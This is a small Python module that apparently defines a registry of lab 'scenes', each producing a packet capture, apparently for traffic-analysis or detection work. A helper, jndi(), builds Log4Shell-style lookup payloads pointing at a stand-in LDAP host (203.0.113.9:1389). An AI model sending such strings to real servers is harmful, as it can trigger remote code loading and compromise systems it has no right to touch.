"""The list of scenes: one function each, named as the capture that it records."""

import dataclasses
from typing import Callable

SCENES = {}


@dataclasses.dataclass(frozen=True)
class Scene:
    name: str
    play: Callable
    needs: tuple       # captures it is derived from
    suffix: str


def scene(name, needs=(), suffix=".pcap"):
    """Registers a function as a scene; it gets the lab and the path to write."""
    def register(function):
        SCENES[name] = Scene(name, function, tuple(needs), suffix)
        return function
    return register


def jndi(path, scheme="ldap", host="203.0.113.9:1389"):
    """The plain look-up; the path says which message carried it."""
    return f"${{jndi:{scheme}://{host}/{path}}}"
